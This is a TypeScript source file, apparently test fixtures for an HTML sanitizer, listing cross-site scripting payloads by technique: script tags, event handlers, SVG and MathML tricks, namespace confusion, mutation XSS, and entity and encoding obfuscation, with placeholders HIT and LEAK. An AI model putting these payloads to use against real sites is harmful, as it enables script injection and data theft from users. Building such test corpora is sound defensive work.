@@ -1,0 +1,112 @@
+/** HTML with code: scripts, event handlers, SVG and MathML, parser confusion, and obfuscation. */
+import type { PayloadTable } from './table.ts';
+
+const each = (text: string, write: (code: number) => string) =>
+  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');
+const hexadecimal = (text: string) => each(text, (code) => `&#x${code.toString(16)};`);
+const padded = (text: string) => each(text, (code) => `&#${String(code).padStart(7, '0')}`);
+const percent = (text: string) => each(text, (code) => `%${code.toString(16)}`);
+const unicode = (text: string) => each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`);
+
+export const code: PayloadTable = {
+  script: [
+    '<script>HIT</script>',
+    '<script type=module>HIT</script>',
+    '<script src="LEAK/a.js"></script>',
+    '<script src="data:text/javascript,HIT"></script>',
+    '<scr<script>ipt>HIT</scr</script>ipt>',
+    '</p></div></section><script>HIT</script>',
+    '<script type="importmap">{"imports":{"x":"LEAK/x.js"}}</script><script type=module>import "x"</script>',
+    '<script type="speculationrules">{"prefetch":[{"urls":["LEAK"]}]}</script><script>HIT</script>',
+    '<script type="application/json" id="page-state">{"path":"/","queries":[]}</script><script>HIT</script>',
+  ],
+  'event handler': [
+    '<img src=/none onerror=HIT>',
+    '<img src=/none onerror\n=\n"HIT">',
+    '<img """><img src=/none onerror="HIT">',
+    '<body onload=HIT>',
+    '<p onclick=HIT onmouseover=HIT>words</p>',
+    '<a href="#x" onfocus=HIT tabindex=1 autofocus>link</a>',
+    '<details open ontoggle=HIT><summary>more</summary></details>',
+    '<style onload=HIT></style>',
+    '<link rel=stylesheet href="/none.css" onerror=HIT>',
+    '<p style="animation: a 1ms" onanimationstart=HIT><style>@keyframes a{}</style>x</p>',
+    '<button popovertarget=pop onclick=HIT>x</button><div id=pop popover onbeforetoggle=HIT>y</div>',
+    '<table background=/none><tr><td onmouseover=HIT>a</td></tr></table>',
+    '<custom-part onclick=HIT is=x-y>own</custom-part>',
+    '<marquee onstart=HIT>runs</marquee>',
+  ],
+  SVG: [
+    '<svg onload=HIT></svg>',
+    '<svg><script>HIT</script></svg>',
+    '<svg><a href="javascript:HIT"><text x=20 y=20>go</text></a></svg>',
+    '<svg><animate onbegin=HIT attributeName=x dur=1s></svg>',
+    '<svg><a><animate attributeName=href values="javascript:HIT"/><text y=20>go</text></a></svg>',
+    '<svg><foreignObject><img src=/none onerror=HIT></foreignObject></svg>',
+    '<svg><style>* { display: none }</style></svg>',
+    '<svg><filter id=f><feImage href="LEAK/f.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
+    '<img src="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27HIT%27></svg>">',
+    '<svg width=9999 height=9999 style="position:fixed;inset:0;z-index:99999"><rect width=100% height=100% /></svg>',
+  ],
+  MathML: [
+    '<math><mtext><img src=/none onerror=HIT></mtext></math>',
+    '<math href="javascript:HIT">go</math>',
+    '<math><style>body{display:none}</style></math>',
+    '<math style="position:fixed;inset:0;background:red;z-index:99999"><mn>1</mn></math>',
+  ],
+  'namespace confusion': [
+    '<svg></p><img src=/none onerror=HIT>',
+    '<math><mtext><table><mglyph><style><img src=/none onerror=HIT></style></mglyph></table></mtext></math>',
+    '<math><mtext><mglyph><style><!--</style><img title="--><img src=/none onerror=HIT>"></mglyph></mtext></math>',
+    '<form><math><mtext></form><form><mglyph><style></math><img src=/none onerror=HIT></style></mglyph></form></mtext></math>',
+    '<svg><![CDATA[><img src=/none onerror=HIT>]]></svg>',
+    '<svg><style>&lt;img src=/none onerror=HIT&gt;</style></svg><img src=/none onerror=HIT>',
+  ],
+  'mutation XSS': [
+    '<noscript><p title="</noscript><img src=/none onerror=HIT>"></noscript><img src=/none onerror=HIT>',
+    '<xmp><p title="</xmp><img src=/none onerror=HIT>"></xmp>',
+    '<style><p title="</style><img src=/none onerror=HIT>"></style>',
+    '<iframe><p title="</iframe><img src=/none onerror=HIT>"></iframe>',
+    '<select><template><style><!--</style><a rel="--></style></template></select><img src=/none onerror=HIT>">',
+    '<select><option><script>HIT</script><img src=/none onerror=HIT></option></select><img src=/none onerror=HIT>',
+    '<table><tr><td><a href="x"><table><a title="</a></table><img src=/none onerror=HIT>"></a></table><img src=/none onerror=HIT>',
+    '<b><p><b><i><u></p><img src=/none onerror=HIT></b>',
+    '<!--><img src=/none onerror=HIT>-->',
+    '<!--x--!><img src=/none onerror=HIT>',
+    '<![CDATA[<p title="]]><img src=/none onerror=HIT>">]]><img src=/none onerror=HIT>',
+    '<p title="`onmouseover=HIT">a</p><img alt="``onerror=HIT" src=/none onerror=HIT>',
+    '<img alt="</body><script>HIT</script>" title="</head></html>" src=/none onerror=HIT>',
+    `<img alt='<script type="application/json" id="page-state">' title='<div id="root"></div></body>' src=/none onerror=HIT>`,
+    '<plaintext><img src=/none onerror=HIT>',
+    '<img src="/none" title="unclosed onerror=HIT><script>HIT</script>',
+    '<p/x="y"onclick=HIT//>press</p>',
+  ],
+  template: [
+    '<template><img src=/none onerror=HIT></template><img src=/none onerror=HIT>',
+    '<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><slot></slot></template><script>HIT</script></div>',
+    '<template id=B:0></template><script>HIT</script>',
+    '<slot name=x><img src=/none onerror=HIT></slot>',
+  ],
+  entities: [
+    (hit) => `<img src=/none onerror="${padded(hit)}">`,
+    (hit) => `<a href="${hexadecimal(`javascript:${hit}`)}">go</a>`,
+    '<a href="javascript&colon;HIT">go</a>',
+    '<a href="java&Tab;script:HIT">go</a>',
+    '<a href="&#1;javascript:HIT">go</a>',
+    '&lt;img src=/none onerror=HIT&gt;<img src=/none onerror=HIT>',
+    '&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;<script>HIT</script><svg onload=HIT>',
+  ],
+  encodings: [
+    (hit) => `<a href="javascript:${percent(hit)}">go</a>`,
+    (hit) => `<img src=/none onerror="${unicode('hit')}${hit.slice(3)}">`,
+    '<a href="  \u0001\u0002javascript:HIT">go</a>',
+    '<a href="java\tscr\nipt:HIT">go</a>',
+    '<img src=/none\u000conerror=HIT>',
+    '<img\u0000 src=/none onerror=HIT><img src=/none onerror\u0000=1 onerror=HIT>',
+    '<\u0000script>HIT</script><script\u000c>HIT</script>',
+    '\uff1cscript\uff1eHIT\uff1c/script\uff1e<img src=/none onerror=HIT>',
+    '\ud800<img src=/none onerror=HIT>\udc00',
+    '<img src=/none onerror=HIT>\u202egnp.exe\u2066\u2067',
+    '<ımg src=/none onerror=HIT><ſcript>HIT</ſcript><img ſrc=x src=/none onerror=HIT>',
+  ],
+};
